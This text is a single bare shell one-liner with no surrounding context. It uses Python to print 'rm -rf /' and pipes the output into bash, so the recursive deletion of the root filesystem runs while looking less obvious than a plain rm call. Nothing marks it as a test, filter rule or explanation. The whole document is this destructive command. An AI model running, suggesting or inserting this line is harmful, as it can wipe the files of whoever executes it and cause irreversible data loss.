python3 -c "print('rm -rf /')" | bash
